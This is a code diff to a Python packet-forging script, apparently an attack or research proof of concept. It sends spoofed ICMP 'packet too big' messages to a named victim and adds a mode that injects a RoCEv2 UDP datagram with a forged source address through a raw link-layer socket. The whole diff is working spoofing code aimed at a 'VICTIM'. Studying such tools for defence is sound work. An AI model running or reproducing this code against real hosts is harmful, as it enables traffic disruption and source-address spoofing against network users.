@@ -3,9 +3,12 @@
 """Send one forged packet.
 
 usage: spoof.py too-big PEER VICTIM MTU
+       spoof.py source SOURCE VICTIM NETDEV MAC
 
 too-big: ICMP to VICTIM, "fragmentation needed" or "packet too big", about an echo reply that VICTIM never sent to
 PEER. No secret of a connection is needed for that.
+
+source: a datagram for RoCEv2, from SOURCE to VICTIM, by NETDEV to MAC.
 """
 
 import ipaddress
@@ -47,11 +50,29 @@ def too_big(peer, victim, mtu):
         raw.sendto(icmp, (str(victim), 0))
 
 
+def source(src, victim, netdev, mac):
+    src, victim = ipaddress.ip_address(src), ipaddress.ip_address(victim)
+    udp = struct.pack(">HHHH", 0xd000, 4791, 8 + 32, 0) + bytes(32)
+    if victim.version == 4:
+        ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0x4000, 64, 17, 0, src.packed, victim.packed)
+        ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
+        kind = 0x0800
+    else:
+        ip = struct.pack(">IHBB16s16s", 6 << 28, len(udp), 17, 64, src.packed, victim.packed)
+        kind = 0x86dd
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
+        raw.bind((netdev, 0))
+        raw.send(bytes.fromhex(mac.replace(":", "")) + bytes(6) + struct.pack(">H", kind) + ip + udp)
+
+
 def main():
     command, *arguments = sys.argv[1:]
-    if command != "too-big":
+    if command == "too-big" and len(arguments) == 3:
+        too_big(arguments[0], arguments[1], int(arguments[2]))
+    elif command == "source" and len(arguments) == 4:
+        source(*arguments)
+    else:
         sys.exit(__doc__)
-    too_big(arguments[0], arguments[1], int(arguments[2]))
 
 
 main()
